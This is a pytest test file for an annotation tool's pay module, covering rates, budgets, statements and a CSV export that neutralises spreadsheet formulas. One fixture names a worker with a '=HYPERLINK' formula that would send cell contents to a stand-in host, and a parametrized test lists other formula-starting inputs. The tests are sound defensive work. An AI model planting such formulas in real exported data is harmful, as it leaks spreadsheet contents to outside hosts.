"""Pay on both engines: who is paid what for which answers, the budget, and a table that no
spreadsheet runs."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from desk_example import LEAD, at, keyed, opened, person, say, work_off

from qinglan.cli.entry import main
from qinglan.errors import PermissionDenied, QinglanError, UsageError
from qinglan.flow import desk, judge, pay, verify, work
from qinglan.flow.context import Context, open_context
from qinglan.records import Actor, Role
from qinglan.storage import history
from qinglan.work import Rules

ATTACK = '=HYPERLINK("http://x.test/?"&A1)'
SUM_OF_DIMES = [Decimal("0.1")] * 3


@pytest.fixture
def p(tmp_path: Path, database: str | None) -> Iterator[Context]:
    """Six tasks with keys, for two people each; one person has the name of a formula."""
    people = ("ann", ATTACK, "王芳")
    rules = Rules(overlap=2, lease_seconds=60)
    with opened(tmp_path / "ws", database, keyed(6), rules=rules, people=people) as context:
        yield context


def accept(context: Context) -> None:
    verify.verify(context, LEAD, "p")
    judge.judge(context, LEAD, "p")


def refused(kind: type[QinglanError], key: str) -> object:
    return pytest.raises(kind, check=lambda error: error.key == f"error.{key}")


def rows(made: pay.Statement) -> list[list[str]]:
    text = pay.table(made).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))[1:]


def test_accepted_work_is_paid_exactly_at_the_rate_it_was_given_out_at(p: Context) -> None:
    work_off(p, "ann", 1, now=at(0))
    pay.set_rate(p, LEAD, "p", "0.1", "CNY", now=at(10))
    taken = work.next_task(p, person("ann"), "p", now=at(20))
    assert taken is not None
    pay.set_rate(p, LEAD, "p", "2.05", "CNY", now=at(30))
    work.submit(p, person("ann"), "p", taken.task, taken.token, say(taken), now=at(31))
    assert pay.statement(p, LEAD, "p").lines == ()  # nothing is accepted yet
    work_off(p, "ann", 3, now=at(40))
    sent_back = work_off(p, "王芳", 2, now=at(86_400))
    accept(p)
    desk.send_back(p, LEAD, "p", "王芳", sent_back[0], "Look again.")
    made = pay.statement(p, LEAD, "p")
    found = [(line.person, line.rate, line.answers, line.amount) for line in made.lines]
    assert found == [
        ("ann", Decimal("0.1"), 1, Decimal("0.1")),
        ("ann", Decimal("2.05"), 3, Decimal("6.15")),
        ("王芳", Decimal("2.05"), 1, Decimal("2.05")),
    ]
    assert [str(one.amount) for one in made.totals] == ["8.30"]
    assert made.unrated == 1
    assert pay.own(p, person("王芳"), "p").lines == made.lines[2:]  # type: ignore[union-attr]
    by_day = pay.statement(p, LEAD, "p", start="2026-03-01", end="2026-03-01")
    assert [one.person for one in by_day.people] == ["ann"]
    later = pay.statement(p, LEAD, "p", start="2026-03-02")
    assert [one.person for one in later.people] == ["王芳"]
    with p.storage.read() as conn:
        chain = [entry.event for entry in history.entries(conn, p.project("p").id)]
    kept = [event for event in chain if isinstance(event, dict) and event["verb"] == "rate"]
    assert [(e["actor"], e["version"], e["amount"]) for e in kept] == [
        ("lead", 1, "0.1"), ("lead", 2, "2.05"),
    ]  # fmt: skip


def test_a_reached_budget_gives_nothing_new_and_loses_nothing(p: Context) -> None:
    pay.set_rate(p, LEAD, "p", "0.10", "CNY", budget="0.30", now=at(0))
    held = work.next_task(p, person("王芳"), "p", now=at(1))
    assert held is not None
    with refused(PermissionDenied, "pay.budget_reached"):
        work_off(p, "ann", now=at(2))
    assert pay.plan(p, LEAD, "p").committed == Decimal("0.2")  # and one is in hand
    assert pay.plan(p, LEAD, "p").reached
    with refused(PermissionDenied, "pay.budget_reached"):
        work.submit_onward(p, person("王芳"), "p", held.task, held.token, say(held), now=at(3))
    accept(p)
    assert pay.statement(p, LEAD, "p").totals[0].amount == sum(SUM_OF_DIMES)
    pay.set_rate(p, LEAD, "p", "0.20", "CNY", budget="0.70", now=at(4))
    with refused(PermissionDenied, "pay.budget_reached"):
        work_off(p, "ann", now=at(5))
    assert pay.plan(p, LEAD, "p").committed == Decimal("0.7")


def test_the_table_starts_no_formula_and_is_the_same_each_time(p: Context, tmp_path: Path) -> None:
    pay.set_rate(p, LEAD, "p", "1.5", "CNY", now=at(0))
    work_off(p, ATTACK, 2, now=at(1))
    work_off(p, "王芳", 2, now=at(1))
    accept(p)
    out = tmp_path / "pay.csv"
    made = pay.write_statement(p, LEAD, "p", out)
    assert out.read_bytes() == pay.table(pay.statement(p, LEAD, "p"))
    assert out.read_bytes().startswith(b"\xef\xbb\xbfwhat,person,")
    assert rows(made) == [
        ["line", "'" + ATTACK, "CNY", "1.5", "2", "3.0"],
        ["line", "王芳", "CNY", "1.5", "2", "3.0"],
        ["person", "'" + ATTACK, "CNY", "", "2", "3.0"],
        ["person", "王芳", "CNY", "", "2", "3.0"],
        ["total", "", "CNY", "", "4", "6.0"],
    ]


@pytest.mark.parametrize(
    "name",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(1)",
        "\t=1",
        "\rx",
        "\n=1",
        " =1",
        "\ufeff=1",
        "＝1",
        "a;=1",
        "a\t@b",
    ],
)
def test_no_name_begins_a_cell_that_is_a_formula(name: str) -> None:
    line = pay.Line(person=name, currency="CNY", rate=Decimal(1), answers=1)
    made = pay.Statement(project="p", lines=(line,), people=(), totals=(), unrated=0)
    cell = rows(made)[0][1]
    assert cell.replace("'", "") == name
    for separator in ("\t", ";", ","):
        for part in cell.split(separator):
            seen = part.strip("\ufeff \r\n")
            assert seen[:1] not in set("=+-@＝＋－＠")
    assert cell[0] not in "\t\r\n"


def test_what_cannot_be_paid_is_refused_with_a_reason(tmp_path: Path) -> None:
    with opened(tmp_path / "ws", None, keyed(1)) as context:
        with refused(UsageError, "pay.no_rate"):
            pay.statement(context, LEAD, "p")
        assert pay.own(context, person("ann"), "p") is None
        for word in ("", "-1", "1e3", "NaN", "1.23456", "1,5", "١"):
            with refused(UsageError, "pay.bad_amount"):
                pay.set_rate(context, LEAD, "p", word, "CNY")
        with refused(UsageError, "pay.bad_currency"):
            pay.set_rate(context, LEAD, "p", "1", "=CN")
        first = pay.set_rate(context, LEAD, "p", "1", "CNY")
        assert pay.set_rate(context, LEAD, "p", "1.0", "CNY") == first
        with refused(UsageError, "pay.bad_day"):
            pay.statement(context, LEAD, "p", start="1 March")
        for role in (Role.ANNOTATOR, Role.REVIEWER, Role.AUDITOR):
            with refused(PermissionDenied, "flow.not_allowed"):
                pay.set_rate(context, Actor(name="x", role=role), "p", "9", "CNY")
        for role in (Role.ANNOTATOR, Role.REVIEWER):
            with refused(PermissionDenied, "flow.not_allowed"):
                pay.statement(context, Actor(name="x", role=role), "p")


def test_the_commands_set_a_rate_and_write_the_statement(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("QINGLAN_WORKSPACE", str(tmp_path / "ws"))
    monkeypatch.setenv("QINGLAN_LANG", "en")
    with opened(tmp_path / "ws", None, keyed(2)):
        pass
    assert main(["pay", "p"]) == 2
    assert main(["rate", "p", "1.10", "CNY", "--budget", "3.30"]) == 0
    with open_context(tmp_path / "ws") as context:
        work_off(context, "ann", now=datetime.now(UTC))
        accept(context)
    capsys.readouterr()
    file = tmp_path / "pay.csv"
    assert main(["pay", "p", "--out", str(file), "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == {
        "people": [{"person": "ann", "currency": "CNY", "answers": 2, "amount": "2.20"}],
        "totals": [{"currency": "CNY", "answers": 2, "amount": "2.20"}],
        "unrated": 0, "file": str(file),
    }  # fmt: skip
    assert file.stat().st_mode & 0o077 == 0
    assert main(["pay", "p", "--to", "2026-03-01"]) == 0
    assert capsys.readouterr().out == "nothing was earned\n"
